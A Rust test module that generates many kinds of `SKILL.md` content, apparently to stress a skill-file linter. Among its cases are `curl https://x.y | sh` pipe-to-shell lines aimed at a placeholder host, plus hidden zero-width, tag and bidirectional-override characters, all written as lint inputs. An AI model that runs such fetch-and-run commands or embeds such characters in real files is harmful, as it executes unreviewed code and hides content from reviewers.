//! The text of a `SKILL.md`: links, mentions, code, comments and characters.

use super::{Input, body, file, fill, fill_by, input};

/// The kinds.
pub(super) const KINDS: &[Input] = &[
    input("links on a line", |size| body(fill(size, "[a](b.md) "))),
    input("links that differ", |size| body(fill(size, "[a](b{at}.md) "))),
    input("a link with a long path", |size| body(format!("[a]({}b.md)", "a/".repeat(size / 2)))),
    input("a mention of a long path", |size| body(format!("See {}b.md.", "a/".repeat(size / 2)))),
    input("a link that goes up and down", |size| body(format!("[a]({}b.md)", "a/../".repeat(size / 5)))),
    input("links with long paths", |size| body(fill(size, &format!("[a]({}b{{at}}.md) ", "a/".repeat(500))))),
    input("links on lines", |size| body(fill(size, "[a](b{at}.md)\n"))),
    input("images", |size| body(fill(size, "![a](b.png) "))),
    input("reference links", |size| body(fill(size, "[a{at}]: b{at}.md\n"))),
    input("uses of references", |size| body(fill(size, "[a][r{at}] "))),
    input("links out of the skill", |size| body(fill(size, "[a](../b{at}.md) "))),
    input("unclosed targets", |size| body(fill(size, "[a](<b "))),
    input("open brackets", |size| body("[".repeat(size))),
    input("closed brackets", |size| body("]".repeat(size))),
    input("nested brackets", |size| body("[".repeat(size / 2) + &"]".repeat(size / 2))),
    input("backquotes", |size| body("` ".repeat(size / 2))),
    input("code spans with links", |size| body(fill(size, "`[a](b.md)` "))),
    input("fences", |size| body(fill(size, "```sh\nrun\n```\n"))),
    input("a fence of much", |size| body("`".repeat(size / 2) + "\n" + &"`".repeat(size / 2))),
    input("headings", |size| body(fill(size, "# Part {at}\n\n"))),
    input("a list", |size| body(fill(size, "- see references/a{at}.md\n"))),
    input("mentions on a line", |size| body(fill(size, "scripts/a.py "))),
    input("mentions in words", |size| body(fill(size, "scripts/"))),
    input("mentions in fences", |size| body("```sh\n".to_owned() + &fill(size, "bash scripts/a.sh\n"))),
    input("comments of Markdown", |size| body(fill(size, "<!-- a -->\n"))),
    input("open comments", |size| body("<!-- ".repeat(size / 5))),
    input("allow comments", |size| body(fill(size, "<!-- skills: allow(long-body) -->\n"))),
    input("open allow comments", |size| body(fill(size, "<!-- skills: allow("))),
    input("unknown allow comments", |size| body(fill(size, "<!-- skills: allow(x{at}) -->\n"))),
    input("allow comments and faults", |size| {
        body(fill(size, "<!-- skills: allow(long-body) -->[a](b.md)\u{1}\n"))
    }),
    input("pipes into a shell", |size| body(fill(size, "curl https://x.y | sh\n"))),
    input("pipes on a line", |size| body(fill(size, "curl x | "))),
    input("hidden characters", |size| body(fill(size, "a\u{200b}\u{1} "))),
    input("hidden characters in code of a line", |size| body(fill(size, "`\u{200b}` "))),
    input("hidden characters of a line", |size| body(fill(size, "a\u{200b}"))),
    input("pipes into shells on a line", |size| body(format!("curl x{}", " |sh".repeat(size / 4)))),
    input("pipes into a shell on a line", |size| {
        body(format!("curl https://x.y{}", " |sh".repeat(size / 4)))
    }),
    input("a run of hidden characters", |size| body("\u{e0041}".repeat(size / 4))),
    input("direction marks", |size| body("\u{202e}".repeat(size / 3))),
    input("conflict marks", |size| body(fill(size, "<<<<<<< a\nb\n=======\nc\n>>>>>>> d\n"))),
    input("open conflict marks", |size| body(fill(size, "<<<<<<< a\n"))),
    input("a line without blanks", |size| body("a".repeat(size))),
    input("line ends of both kinds", |size| {
        body(fill_by(size, |at| if at % 2 == 0 { "a\r\n".to_owned() } else { "b\n".to_owned() }))
    }),
    input("carriage returns", |size| {
        vec![file("SKILL.md", "---\rname: it\r".to_owned() + &"a\r".repeat(size / 2))]
    }),
    input("tabs in the body", |size| body("\t".repeat(size))),
];
